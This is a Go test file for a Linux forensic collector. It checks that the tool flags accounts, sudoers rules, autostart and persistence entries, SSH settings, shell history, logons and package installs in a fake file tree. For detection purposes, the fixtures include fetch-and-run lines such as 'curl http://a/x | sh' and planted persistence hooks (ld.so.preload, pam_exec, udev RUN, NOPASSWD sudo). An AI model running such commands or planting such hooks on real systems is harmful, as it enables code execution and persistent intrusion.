package linux

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"postern/collect/family"
	"postern/evidence"
	"postern/evidence/evidencetest"
)

const keyLine = `command="/bin/true",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ5d6f0a3Fh0kT8F5Hq0v3o2W6qkQb8e1b6b1Yk0C4mP anna@desk`

func tree() evidencetest.Tree {
	text := evidencetest.Text
	return evidencetest.Tree{
		"etc/passwd":                            text("root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www:/var/www:/usr/sbin/nologin\nanna:x:1000:1000:Anna:/home/anna:/bin/bash\n"),
		"etc/shadow":                            text("root:$y$secret:20000:0:99999:7:::\nwww-data:*:19000::::::\nanna::20100:0:99999:7:::\n"),
		"etc/group":                             text("sudo:x:27:anna\nadm:x:4:anna\n"),
		"etc/sudoers":                           text("Defaults env_reset\n%sudo ALL=(ALL:ALL) ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\n"),
		"etc/crontab":                           text("SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"),
		"etc/cron.d/job":                        text("@reboot\twww-data\t/usr/local/bin/job --now\n"),
		"var/spool/cron/crontabs/anna":          text("*/5 * * * * /home/anna/bin/sync\n"),
		"etc/cron.daily/logrotate":              text("#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n"),
		"etc/anacrontab":                        text("START_HOURS_RANGE=3-22\n1 5 cron.daily run-parts /etc/cron.daily\n"),
		"etc/systemd/system/mail.service":       text("[Service]\nUser=mail\nExecStart=-/opt/mail/run \\\n  --all\nEnvironment=\"LD_PRELOAD=/usr/lib/libjemalloc.so\"\n"),
		"etc/systemd/system/mail.timer":         text("[Timer]\nOnCalendar=daily\n"),
		"etc/rc.local":                          text("#!/bin/sh\n/usr/local/bin/x &\nexit 0\n"),
		"etc/profile":                           text("umask 022\n"),
		"home/anna/.bashrc":                     text("alias ll='ls -l'\n"),
		"home/anna/.config/autostart/a.desktop": text("[Desktop Entry]\nExec=/usr/bin/nm-applet\n"),
		"etc/ld.so.preload":                     text("/usr/lib/x.so\n"),
		"etc/environment":                       text("LD_PRELOAD=\"/opt/y.so\"\n"),
		"etc/modules":                           text("loop\n"),
		"etc/pam.d/sshd":                        text("auth required pam_exec.so /usr/local/bin/x\n"),
		"etc/udev/rules.d/1.rules":              text(`ACTION=="add", RUN+="/bin/sh -c x"` + "\n"),
		"etc/apt/apt.conf.d/5":                  text(`DPkg::Post-Invoke {"/usr/bin/x || true";};` + "\n"),
		"etc/ssh/sshd_config":                   text("Port 22\nPermitRootLogin yes\n"),
		"home/anna/.ssh/authorized_keys":        text(keyLine + "\n"),
		"etc/hosts":                             text("127.0.0.1\tlocalhost\n"),
		"home/anna/.bash_history":               text("ls\ncurl http://a/x | sh\n"),
		"var/log/wtmp":                          {Data: slices.Concat(logonRecord(2, "reboot", "~", "6.1.0", nil), logonRecord(userProcess, "anna", "pts/0", "192.0.2.7", []byte{192, 0, 2, 7}))},
		"var/log/btmp":                          {Data: logonRecord(6, "root", "ssh:notty", "2001:db8::1", []byte{0x20, 1, 0x0d, 0xb8, 15: 1})},
		"var/log/dpkg.log":                      text("2026-02-01 03:00:00 startup archives unpack\n2026-02-01 03:00:01 install cloudflared:amd64 <none> 2026.1.0\n2026-02-01 03:00:02 status installed cloudflared:amd64 2026.1.0\n"),
	}
}

func source(t evidencetest.Tree) *evidence.Source {
	return &evidence.Source{Kind: evidence.KindTree, ID: evidence.Identity{OS: evidence.Linux}, Files: t,
		Volumes: []evidence.Volume{{Mount: "/", Root: "."}}, Close: func() error { return nil }}
}

func TestLaw(t *testing.T) {
	evidencetest.Run(t, New, &evidence.Interest{}, func() *evidence.Source { return source(tree()) })
}

func collected(t *testing.T, src *evidence.Source) *evidencetest.Sink {
	t.Helper()
	out := &evidencetest.Sink{}
	if err := New().Collect(context.Background(), src, &evidence.Interest{}, out); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestFacts holds what is observed of each family against its file.
func TestFacts(t *testing.T) {
	out := collected(t, source(tree()))
	var got []string
	for _, o := range out.Observed {
		got = append(got, string(o.Kind)+"|"+strings.Join(o.Values, "|"))
	}
	for _, want := range []string{
		"account|root|0||||2024-10-04T00:00:00Z|/bin/bash|/etc/passwd|root",
		"account|www-data|33||locked|||/usr/sbin/nologin|/etc/passwd|www",
		"account|anna|1000|adm,sudo|no-password|||/bin/bash|/etc/passwd|Anna",
		"setting|privilege|sudoers|www-data ALL=(ALL) NOPASSWD: ALL||www-data|/etc/sudoers",
		"autostart|cron|crontab|cd / && run-parts --report /etc/cron.hourly|||root|/etc/crontab|17 * * * *",
		"autostart|cron|job|/usr/local/bin/job --now|/usr/local/bin/job||www-data|/etc/cron.d/job|@reboot",
		"autostart|cron|anna|/home/anna/bin/sync|/home/anna/bin/sync||anna|/var/spool/cron/crontabs/anna|*/5 * * * *",
		"autostart|cron|/etc/cron.daily/logrotate|/usr/sbin/logrotate /etc/logrotate.conf|||root|/etc/cron.daily/logrotate",
		"autostart|cron|cron.daily|run-parts /etc/cron.daily|||root|/etc/anacrontab|",
		"autostart|systemd-unit|mail.service|-/opt/mail/run   --all|/opt/mail/run||mail|/etc/systemd/system/mail.service|ExecStart",
		"autostart|preload|LD_PRELOAD|/usr/lib/libjemalloc.so||||/etc/systemd/system/mail.service",
		"autostart|systemd-timer|mail.timer|||||/etc/systemd/system/mail.timer|OnCalendar=daily",
		"autostart|init|/etc/rc.local|/usr/local/bin/x &|||root|/etc/rc.local",
		"autostart|shell-profile|/home/anna/.bashrc|alias ll='ls -l'|||anna|/home/anna/.bashrc",
		"autostart|desktop|/home/anna/.config/autostart/a.desktop|/usr/bin/nm-applet|/usr/bin/nm-applet||anna|/home/anna/.config/autostart/a.desktop|",
		"autostart|preload|LD_PRELOAD|/usr/lib/x.so||||/etc/ld.so.preload",
		"autostart|preload|LD_PRELOAD|/opt/y.so||||/etc/environment",
		"autostart|kernel-module|loop||||root|/etc/modules",
		"autostart|pam|pam_exec.so|auth required pam_exec.so /usr/local/bin/x|pam_exec.so|||/etc/pam.d/sshd",
		"autostart|udev|/etc/udev/rules.d/1.rules|/bin/sh -c x|/bin/sh||root|/etc/udev/rules.d/1.rules|",
		"autostart|package-manager|/etc/apt/apt.conf.d/5|/usr/bin/x || true|/usr/bin/x||root|/etc/apt/apt.conf.d/5|",
		"setting|remote-access|PermitRootLogin|yes|||/etc/ssh/sshd_config",
		"setting|name-service|hosts|127.0.0.1 localhost|||/etc/hosts",
		"trace|history|||curl http://a/x | sh|anna|/home/anna/.bash_history",
		"trace|logon||||anna|/var/log/wtmp|from 192.0.2.7 on pts/0",
		"trace|failed-logon||||root|/var/log/btmp|from 2001:db8::1 on ssh:notty",
		"trace|package|cloudflared||||/var/log/dpkg.log|version 2026.1.0",
	} {
		if !slices.ContainsFunc(got, func(g string) bool { return strings.TrimRight(g, "|") == strings.TrimRight(want, "|") }) {
			t.Errorf("nothing says %s\n%s", want, strings.Join(got, "\n"))
		}
	}
	for _, g := range got {
		if strings.Contains(g, "secret") {
			t.Errorf("a hash is kept: %s", g)
		}
	}
}

// TestFingerprints holds those of keys against what ssh-keygen prints.
func TestFingerprints(t *testing.T) {
	if _, err := exec.LookPath("ssh-keygen"); err != nil {
		t.Skip("no ssh-keygen here")
	}
	for _, kind := range []string{"ed25519", "rsa", "ecdsa"} {
		file := filepath.Join(t.TempDir(), kind)
		if out, err := exec.Command("ssh-keygen", "-q", "-t", kind, "-N", "", "-C", "anna@desk", "-f", file).CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		line, err := os.ReadFile(file + ".pub")
		if err != nil {
			t.Fatal(err)
		}
		printed, err := exec.Command("ssh-keygen", "-l", "-f", file+".pub").Output()
		if err != nil {
			t.Fatal(err)
		}
		files := tree()
		files["home/anna/.ssh/authorized_keys"] = evidencetest.File{Data: append([]byte("no-pty "), line...)}
		fingerprint := strings.Fields(string(printed))[1]
		if !slices.ContainsFunc(collected(t, source(files)).Of(evidence.ObserveSetting), func(o evidence.Observation) bool {
			return o.Get("Kind") == evidence.SettingKey && strings.Contains(o.Get("Name"), " "+fingerprint+" anna@desk") && o.Get("Details") == "no-pty" && o.Get("User") == "anna"
		}) {
			t.Errorf("%s: no key with fingerprint %s", kind, fingerprint)
		}
	}
}

// TestLimits: what is over a limit is read up to it, and the rest is a gap.
func TestLimits(t *testing.T) {
	files := tree()
	files["etc/crontab"] = evidencetest.Text(strings.Repeat("* * * * * root /bin/x\n", maxLines+1))
	files["home/anna/.bash_history"] = evidencetest.Text(strings.Repeat("ls\n", family.MaxFile/2) + "last\n")
	out := collected(t, source(files))
	if n := len(slices.DeleteFunc(out.Of(evidence.ObserveAutostart), func(o evidence.Observation) bool { return o.Get("TargetObject") != "/etc/crontab" })); n != maxLines {
		t.Errorf("%d lines of the table", n)
	}
	if !slices.ContainsFunc(out.Of(evidence.ObserveTrace), func(o evidence.Observation) bool { return o.Get("CommandLine") == "last" }) {
		t.Error("the end of a long history was not read")
	}
	for _, path := range []string{"etc/crontab", "home/anna/.bash_history"} {
		if !slices.ContainsFunc(out.Gaps(), func(c evidence.Coverage) bool { return c.Path == path && c.Missed.Reason == evidence.TooLarge }) {
			t.Errorf("%s: no gap", path)
		}
	}
}

// FuzzFiles: no content of any file may panic, or be kept where it is a hash.
func FuzzFiles(f *testing.F) {
	names := slices.Sorted(func(yield func(string) bool) {
		for n := range tree() {
			if !yield(n) {
				return
			}
		}
	})
	for i, n := range names {
		f.Add(uint8(i), tree()[n].Data)
	}
	f.Fuzz(func(t *testing.T, at uint8, data []byte) {
		files := tree()
		files[names[int(at)%len(names)]] = evidencetest.File{Data: data}
		out := collected(t, source(files))
		for _, o := range out.Observed {
			if len(o.Values) > len(evidence.Fields[o.Kind]) {
				t.Fatalf("%d values of %s", len(o.Values), o.Kind)
			}
		}
	})
}

// TestTyped: what shells note of when a line was typed.
func TestTyped(t *testing.T) {
	const text = "ls\n#1700000000\nwhoami\n: 1700000100:0;curl a \\\n| sh\n- cmd: cat x\n  when: 1700000200\n# a comment\npwd\n"
	var got []string
	for _, c := range typed(text) {
		got = append(got, fmt.Sprint(c.line, " ", c.when.Unix(), " ", c.text))
	}
	want := []string{"1 -62135596800 ls", "3 1700000000 whoami", "4 1700000100 curl a | sh", "6 1700000200 cat x", "9 -62135596800 pwd"}
	if !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}

// logonRecord is a record of wtmp.
func logonRecord(kind uint16, user, line, host string, address []byte) []byte {
	b := make([]byte, logonSize)
	binary.LittleEndian.PutUint16(b, kind)
	copy(b[8:], line)
	copy(b[44:], user)
	copy(b[76:], host)
	binary.LittleEndian.PutUint32(b[340:], 1769914800)
	copy(b[348:], address)
	return b
}

// TestLogonsAsUtmpdump: what util-linux' utmpdump reads of the same records.
func TestLogonsAsUtmpdump(t *testing.T) {
	if _, err := exec.LookPath("utmpdump"); err != nil {
		t.Skip("no utmpdump here")
	}
	for _, b := range [][]byte{logonRecord(userProcess, "anna", "pts/0", "192.0.2.7", []byte{192, 0, 2, 7}), logonRecord(userProcess, "root", "tty1", "", nil),
		logonRecord(userProcess, "bob", "pts/1", "mail.example", []byte{0x20, 1, 0x0d, 0xb8, 15: 1})} {
		file := filepath.Join(t.TempDir(), "wtmp")
		if err := os.WriteFile(file, b, 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command("utmpdump", file).Output()
		if err != nil {
			t.Fatal(err)
		}
		l := logonOf(b)
		for _, want := range []string{l.user, l.line, l.host, l.at.Format("2006-01-02T15:04:05")} {
			if !strings.Contains(string(out), want) {
				t.Errorf("utmpdump says %s, not %s", out, want)
			}
		}
	}
}

// TestKeptLogs: what logrotate keeps is read, packed by gzip or not; what is packed
// otherwise, and lines that are not understood, are told.
func TestKeptLogs(t *testing.T) {
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	if _, err := z.Write([]byte("2026-01-02 03:00:01 install chisel:amd64 <none> 1.9\n\x00\x00\x00\n")); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	tree := evidencetest.Tree{
		"etc/passwd":                 evidencetest.Text("root:x:0:0:root:/root:/bin/bash\nbroken\n"),
		"var/log/dpkg.log.2.gz":      {Data: packed.Bytes()},
		"var/log/dpkg.log.3.xz":      evidencetest.Text("packed"),
		"var/log/dnf.rpm.log":        evidencetest.Text("2026-02-01T03:00:01+0100 SUBDEBUG Installed: cloudflared-2026.1.0-1.x86_64\n2026-02-01T03:00:02+0100 INFO done\n"),
		"var/log/yum.log-20260101":   evidencetest.Text("Feb 01 03:00:01 Installed: x\n"),
		"var/log/wtmp.1":             {Data: logonRecord(userProcess, "anna", "pts/0", "192.0.2.7", nil)},
		"var/log/btmp-20260101.gz":   evidencetest.Text("no gzip"),
		"var/lib/wtmpdb/wtmp.db":     evidencetest.Text("SQLite format 3"),
		"root/.bash_history":         evidencetest.Text("#9999999999\nwhoami\n"),
		"var/log/wtmp.unrelated.bak": evidencetest.Text("x"),
	}
	out := collected(t, source(tree))
	var got []string
	for _, o := range out.Observed {
		if o.Kind == evidence.ObserveTrace {
			got = append(got, strings.Join(o.Values, "|")+"|"+o.Time.Format(time.RFC3339))
		}
	}
	for _, want := range []string{
		"package|chisel||||/var/log/dpkg.log.2.gz|version 1.9|2026-01-02T03:00:01Z",
		"package|cloudflared||||/var/log/dnf.rpm.log|version 2026.1.0-1.x86_64|2026-02-01T03:00:01+01:00",
		"logon||||anna|/var/log/wtmp.1|from 192.0.2.7 on pts/0|2026-02-01T03:00:00Z",
	} {
		if !slices.Contains(got, want) {
			t.Errorf("nothing says %s\n%s", want, strings.Join(got, "\n"))
		}
	}
	if !slices.ContainsFunc(got, func(g string) bool {
		return strings.Contains(g, "whoami") && strings.Contains(g, "is later than its file's")
	}) {
		t.Errorf("a forged time is believed: %q", got)
	}
	for _, want := range []string{"dpkg.log.2.gz: damaged", "dpkg.log.2.gz: ambiguous", "dpkg.log.3.xz: not yet read", "yum.log-20260101: not yet read", "btmp-20260101.gz", "wtmp.db: not yet read", "etc/passwd: damaged"} {
		if !slices.ContainsFunc(out.Gaps(), func(c evidence.Coverage) bool { return strings.Contains(c.Path+": "+c.Missed.String(), want) }) {
			t.Errorf("no gap says %s", want)
		}
	}
}
